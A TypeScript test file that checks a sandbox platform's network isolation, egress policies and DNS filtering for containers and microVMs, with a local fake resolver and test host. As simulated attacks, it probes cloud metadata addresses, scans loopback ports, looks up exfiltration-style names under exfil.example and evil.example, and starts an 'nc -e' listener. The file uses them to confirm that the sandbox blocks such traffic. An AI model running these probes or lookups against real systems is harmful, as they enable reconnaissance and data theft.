/**
 * Network probing and egress policies, on containers and on microVMs. Destinations are a test host
 * in a network namespace of its own (test/helpers/test-host.ts) and the node's own addresses and
 * loopback ports; nothing leaves the machine. A fake upstream resolver on 127.0.0.1 answers `pkg.test`.
 */
import { createSocket } from 'node:dgram';
import { existsSync, readdirSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import type { Sandbox } from '../../sdk/index.ts';
import { TestHost } from '../helpers/test-host.ts';
import { advTest, underAttack } from './harness.ts';

let host: TestHost;
/** The test host's address and its gateway on the host (set once it is up). */
let TEST_HOST = '';
let TEST_GW = '';

// The fake upstream resolver: pkg.test → the test host; every name it is asked is logged.
const asked: string[] = [];
const dns = createSocket('udp4');
dns.on('message', (q, r) => {
  let off = 12;
  const labels: string[] = [];
  while (q[off]) {
    labels.push(q.toString('latin1', off + 1, off + 1 + (q[off] as number)));
    off += 1 + (q[off] as number);
  }
  const name = labels.join('.');
  asked.push(name);
  const head = Buffer.from(q.subarray(0, off + 5));
  head.writeUInt16BE(0x8180, 2);
  if (name !== 'pkg.test' || q.readUInt16BE(off + 1) !== 1) {
    head.writeUInt16BE(0x8183, 2);
    dns.send(head, r.port, r.address);
    return;
  }
  head.writeUInt16BE(1, 6);
  const ans = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4, ...TEST_HOST.split('.').map(Number)]);
  dns.send(Buffer.concat([head, ans]), r.port, r.address);
});
await new Promise<void>((resolve) => dns.bind(0, '127.0.0.1', resolve));

const test = advTest({ env: { PADDOCK_DNS_UPSTREAM: `127.0.0.1:${dns.address().port}`, PADDOCK_BACKENDS: 'container,microvm' } });
test.before(async () => {
  host = await TestHost.start([8080, 8081]);
  TEST_HOST = host.addr;
  TEST_GW = host.gw;
});

test.after.always(async () => {
  await host?.stop();
  dns.close();
});

const natsPort = (url: string) => Number(new URL(url).port);
function hostAddress(): string {
  for (const list of Object.values(networkInterfaces())) for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  return '127.0.0.1';
}

/**
 * The same policies hold for a microVM: its one NIC is relayed to a tap with the containers'
 * rules (runtime/microvm/netrelay.c). Skipped where QEMU or the guest kernel is missing.
 */
const vmReady = existsSync('/usr/bin/qemu-system-x86_64') && readdirSync('/boot').some((n) => /^vmlinuz-.*-cloud-amd64$/.test(n));
const BACKENDS = vmReady ? (['container', 'microvm'] as const) : (['container'] as const);
const spec = (backend: 'container' | 'microvm') => (backend === 'microvm' ? { backend, cpu: 1, memoryMiB: 256 } : { backend, cpu: 1 });

/** An HTTP GET from inside (busybox's static wget cannot resolve or even run here: nc it is); the body's last line. */
async function fetchFrom(sb: Sandbox, host: string, port: number): Promise<string> {
  const r = await sb.exec(['sh', '-c', `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 ${host} ${port} | tail -1`], { timeoutMs: 10_000 });
  return r.stdout.trim();
}

/** The address the sandbox's resolver gives for `name`, or ''. */
async function resolve(sb: Sandbox, name: string): Promise<string> {
  const r = await sb.exec(['sh', '-c', `nslookup ${name} 2>/dev/null | awk '/^Address/ {print $2}' | grep -v ':53$' | tail -1`], { timeoutMs: 20_000 });
  return r.stdout.trim();
}

/**
 * `resolve` for a name that must resolve: asked up to three times, because a lookup is one UDP
 * datagram each way, and on a loaded 2-core host one was seen lost (a microVM's first lookup
 * through its relay came back empty once in a CI run). A refused name is asked once: '' is its answer.
 */
async function resolveAllowed(sb: Sandbox, name: string): Promise<string> {
  let got = '';
  for (let i = 0; i < 3 && got === ''; i++) got = await resolve(sb, name);
  return got;
}

/** Connects from inside; 'open' or 'closed'. */
async function probe(sb: Sandbox, host: string, port: number): Promise<string> {
  const r = await sb.exec(['sh', '-c', `nc -w 1 ${host} ${port} </dev/null >/dev/null 2>&1 && echo open || echo closed`], { timeoutMs: 10_000 });
  return r.stdout.trim();
}

for (const backend of BACKENDS) {
test.serial(`${backend}: no network by default: NATS, node ports, metadata addresses${backend === 'container' ? ' and a loopback scan' : ''} find nothing`, async (t) => {
  const sb = await t.context.pdk.sandboxes.create(spec(backend));
  t.teardown(() => sb.kill());
  const nats = natsPort(t.context.cluster.url);
  await underAttack(t, backend === 'container' ? 'connect to NATS, node ports, metadata; scan loopback' : `${backend}: connect to NATS, the node's ports, metadata`, 'UNREACHABLE', async () => {
    const targets: Array<[string, number]> = [
      ['127.0.0.1', nats],
      [hostAddress(), nats],
      [hostAddress(), 22],
      ['169.254.169.254', 80],
      ['100.100.100.200', 80],
      [TEST_HOST, 8080],
    ];
    const open = [];
    for (const [h, p] of targets) if ((await probe(sb, h, p)) === 'open') open.push(`${h}:${p}`);
    // A container shares no loopback with the node, but it is the one place a slip would show; a VM's is its guest's own.
    if (backend === 'container') {
      const scan = await sb.exec(['sh', '-c', 'for p in $(seq 1 2000); do nc -w 1 127.0.0.1 $p </dev/null >/dev/null 2>&1 && echo $p; done; true'], { timeoutMs: 60_000 });
      open.push(...scan.stdout.split('\n').filter(Boolean));
    }
    return open.length === 0 ? 'UNREACHABLE' : `OPEN ${open.join(' ')}`;
  });
});

test.serial(`${backend}: an egress policy opens exactly its CIDR:ports, changes while running, and never the node or NATS`, async (t) => {
  const nats = natsPort(t.context.cluster.url);
  const sb = await t.context.pdk.sandboxes.create({ ...spec(backend), network: { allow: [`${TEST_HOST}/32:8080`] } });
  t.teardown(() => sb.kill());
  t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
  t.is(await probe(sb, TEST_HOST, 8081), 'closed');
  const gw = (await sb.exec(['sh', '-c', "ip route | awk '/default/ {print $3}'"])).stdout.trim();
  t.regex(gw, /^100\.72\./);
  t.is(await probe(sb, gw, nats), 'closed');
  t.is(await probe(sb, hostAddress(), nats), 'closed');
  t.is(await probe(sb, TEST_GW, nats), 'closed');
  // Rollout phase: everything closed again, then reopened.
  await sb.network.set({});
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  await sb.network.set({ allow: [`${TEST_HOST}/32:8081`] });
  t.is(await probe(sb, TEST_HOST, 8081), 'open');
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  const bad = await t.throwsAsync(sb.network.set({ allow: ['not-a-cidr'] }));
  t.is((bad as { code?: string }).code, 'INVALID_REQUEST');
});

test.serial(`${backend}: domains resolve only through the DNS filter: allowed names open, others are refused and never asked upstream`, async (t) => {
  const sb = await t.context.pdk.sandboxes.create({ ...spec(backend), network: { domains: ['pkg.test'], ports: [8080] } });
  t.teardown(() => sb.kill());
  // Closed until the name is resolved through the filter, open (on the policy's ports) after.
  t.is(await probe(sb, TEST_HOST, 8080), 'closed');
  t.is(await resolveAllowed(sb, 'pkg.test'), TEST_HOST);
  t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
  t.is(await probe(sb, TEST_HOST, 8081), 'closed');
  t.is(await resolve(sb, 'c2VjcmV0.exfil.example'), '');
  t.is(await resolve(sb, 'pkg.test.evil.example'), '');
  t.false(
    asked.some((n) => n.includes('exfil') || n.includes('evil')),
    `upstream was asked: ${asked.join(', ')}`,
  );
  // A resolver of its own choosing is not reachable.
  t.is(await probe(sb, '127.0.0.1', 53), 'closed');
  const direct = await sb.exec(['sh', '-c', `nslookup pkg.test ${TEST_GW} 2>&1 | tail -2`], { timeoutMs: 20_000 });
  t.notRegex(direct.stdout, new RegExp(TEST_HOST.replace(/\./g, '\\.')));
});

test.serial(`${backend}: one sandbox cannot reach another unless its policy says so`, async (t) => {
  const a = await t.context.pdk.sandboxes.create({ ...spec(backend), network: { allow: [`${TEST_HOST}/32:8080`] } });
  const b = await t.context.pdk.sandboxes.create({ ...spec(backend), network: { allow: [`${TEST_HOST}/32:8080`] } });
  t.teardown(() => Promise.all([a.kill(), b.kill()]));
  const bAddr = (await b.exec(['sh', '-c', "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1"])).stdout.trim();
  t.regex(bAddr, /^100\.72\./);
  await b.exec(['sh', '-c', '(nc -l -p 9000 -e echo hi &) ; true']);
  t.is(await probe(a, bAddr, 9000), 'closed');
});
}

if (vmReady) {
  test.serial('microvm: its network survives hibernate and restore (a new VMM, relayed to the same tap), and a fork gets a link of its own', async (t) => {
    const sb = await t.context.pdk.sandboxes.create({ ...spec('microvm'), network: { allow: [`${TEST_HOST}/32:8080`] } });
    t.teardown(() => sb.kill());
    t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
    await sb.hibernate();
    await sb.restore();
    t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
    t.is(await probe(sb, TEST_HOST, 8081), 'closed');
    const addr = async (s: Sandbox) => (await s.exec(['sh', '-c', "ip -4 -o addr show eth0 | awk '{print $4}'"])).stdout.trim();
    const [kid] = await sb.fork(1);
    if (!kid) return t.fail('no fork');
    t.teardown(() => kid.kill());
    // The copy starts with its parent's address in its guest, and gets its own link and address.
    t.not(await addr(kid), await addr(sb));
    t.regex(await addr(kid), /^100\.72\./);
    t.is(await fetchFrom(kid, TEST_HOST, 8080), 'solution');
    t.is(await fetchFrom(sb, TEST_HOST, 8080), 'solution');
  });
}
